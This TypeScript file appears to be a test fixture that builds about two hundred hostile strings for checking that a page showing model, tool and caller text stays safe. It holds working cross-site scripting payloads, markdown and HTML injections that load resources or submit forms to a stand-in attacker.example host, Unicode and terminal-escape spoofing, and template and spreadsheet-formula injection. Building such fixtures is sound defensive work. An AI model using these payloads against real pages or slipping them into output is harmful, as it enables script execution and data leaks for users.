/** Address that no page may contact. The mark names the payload. */
const foreign = (mark: number): string => `https://attacker.example/${mark}`

/** What a payload does when its script runs: it sets a name that the test looks for. */
const run = 'globalThis.hit=1'

type Template = (mark: number) => string

/** HTML that runs a script, opens a dialog or loads something. */
const html: readonly Template[] = [
  () => `<script>${run}</script>`,
  mark => `<script src="${foreign(mark)}/a.js"></script>`,
  () => `<img src=x onerror="${run}">`,
  mark => `<img src="${foreign(mark)}/pixel.png">`,
  () => `<svg onload="${run}">`,
  () => `<svg><script>${run}</script></svg>`,
  () => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  () => `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  mark => `<iframe src="${foreign(mark)}"></iframe>`,
  () => `<body onload="${run}">`,
  () => `<details open ontoggle="${run}">x</details>`,
  () => `<video><source onerror="${run}"></video>`,
  mark => `<video poster="${foreign(mark)}/p.png"></video>`,
  () => `<input autofocus onfocus="${run}">`,
  () => `<a href="javascript:${run}">click</a>`,
  () => `<form action="javascript:${run}"><button>send</button></form>`,
  mark => `<form action="${foreign(mark)}" id=f></form><script>f.submit()</script>`,
  mark => `<link rel="stylesheet" href="${foreign(mark)}/a.css">`,
  mark => `<style>@import "${foreign(mark)}/a.css";</style>`,
  mark => `<style>body{background:url(${foreign(mark)}/b.png)}</style>`,
  mark => `<div style="background:url(${foreign(mark)}/c.png)">x</div>`,
  mark => `<object data="${foreign(mark)}/o.swf"></object>`,
  mark => `<embed src="${foreign(mark)}/e.swf">`,
  mark => `<base href="${foreign(mark)}/">`,
  mark => `<meta http-equiv="refresh" content="0;url=${foreign(mark)}">`,
  mark => `<audio src="${foreign(mark)}/a.mp3" autoplay></audio>`,
  () => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  () => `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  () => `<template><script>${run}</script></template>`,
  () => `<marquee onstart="${run}">x</marquee>`,
  () => `<select autofocus onfocus="${run}"></select>`,
  () => `<textarea autofocus onfocus="${run}"></textarea>`,
  () => `<button autofocus onfocus="alert(1)">x</button>`,
  () => `<x contenteditable onblur="confirm(1)" tabindex=1 autofocus>`,
  () => `<img src=x onerror="prompt(1)">`,
]

/** Markdown that becomes links, images or HTML. */
const markdown: readonly Template[] = [
  mark => `![pixel](${foreign(mark)}/p.png)`,
  mark => `![pixel][r]\n\n[r]: ${foreign(mark)}/p.png`,
  () => `[click](javascript:${run})`,
  () => `[click](JaVaScRiPt:${run})`,
  () => `[click](java&#x73;cript:${run})`,
  () => `[click](data:text/html,<script>${run}</script>)`,
  () => `[click](vbscript:${run})`,
  () => `[click](blob:${run})`,
  () => `<javascript:${run}>`,
  mark => `[![pixel](${foreign(mark)}/i.png)](${foreign(mark)})`,
  mark => `<img src="${foreign(mark)}/m.png"/>`,
  () => '```html\n<script>globalThis.hit=1</script>\n```',
  () => '`<img src=x onerror=globalThis.hit=1>`',
  mark => `| a |\n|---|\n| ![p](${foreign(mark)}/t.png) |`,
  mark => `[^1]\n\n[^1]: ![p](${foreign(mark)}/f.png)`,
]

/** Text that hides or imitates. */
const hidden: readonly Template[] = [
  () => 'user\u202Egnp.exe',
  () => 'a\u200Bb\u2060c\uFEFFd',
  () => '\u2066hidden\u2069',
  () => '\u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007',
  () => '\u001b[2J\u001b[31mAPPROVED\u001b[0m',
  () => '\u0085\u2028\u2029',
  () => '{{constructor.constructor("globalThis.hit=1")()}}',
  () => ['$', '{globalThis.hit=1}'].join(''),
  () => '=HYPERLINK("https://attacker.example")',
  () => '"><img src=x onerror=globalThis.hit=1>',
  () => "'-globalThis.hit=1-'",
  () => '</title><script>globalThis.hit=1</script>',
  () => '--><script>globalThis.hit=1</script>',
  () => ']]><script>globalThis.hit=1</script>',
  () => '__proto__',
]

type Variant = (text: string) => string

const variants: readonly Variant[] = [
  text => text,
  text =>
    text
      .toUpperCase()
      .replaceAll('GLOBALTHIS.HIT', 'globalThis.hit')
      .replaceAll('HTTPS://ATTACKER', 'https://attacker'),
  text => `Look at this: ${text} and go on.`,
  text => `> ${text}`,
]

/** Two hundred payloads against a page that shows text of models, tools and callers. */
export const hostileTexts: readonly string[] = [
  ...new Set(
    variants.flatMap(variant => [...html, ...markdown, ...hidden].map((template, at) => variant(template(at)))),
  ),
].slice(0, 200)
